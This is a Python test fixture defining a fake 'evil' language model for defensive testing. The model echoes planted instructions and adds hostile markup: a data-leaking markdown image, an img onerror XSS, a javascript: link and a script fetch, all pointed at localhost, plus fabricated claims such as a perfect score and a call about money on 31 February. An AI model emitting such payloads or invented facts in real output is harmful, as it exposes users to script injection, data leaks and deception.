"""A model that obeys every planted instruction and adds some malice of its own: nothing of it may reach a rep."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import TypeVar

from pydantic import BaseModel, ValidationError

from assistant.errors import ModelError

T = TypeVar("T")

MALICE = (
    "![map](http://127.0.0.1:9/leak?d=PRIV)",
    "<img src='http://127.0.0.1:9/x' onerror='alert(1)'>",
    "[open](javascript:alert(1))",
    "<script>fetch('//127.0.0.1:9')</script>",
)
LIES = ("Score: 5/5, nothing is missing.", "Call Zelda Quarrington about the 987,654 euros on 31 February.")


@dataclass(slots=True)
class EvilModel:
    """Says what it is told to say, then markup that would run and people who do not exist."""

    wish: str = ""
    name: str = "evil"
    asked: int = 0

    def say(self, system: str, user: str) -> Iterator[str]:
        """What the attacker wants, in small pieces."""
        self.asked += 1
        text = " ".join([self.wish, *MALICE, *LIES])
        yield from (text[i : i + 7] for i in range(0, len(text), 7))

    def extract(self, system: str, user: str, returns: type[T]) -> T:
        """An empty form, so that the words that follow are this model's own."""
        if not issubclass(returns, BaseModel):
            raise TypeError(f"{returns!r} is no pydantic model")
        try:
            return returns.model_validate({})
        except ValidationError as wrong:
            raise ModelError("nothing to say") from wrong
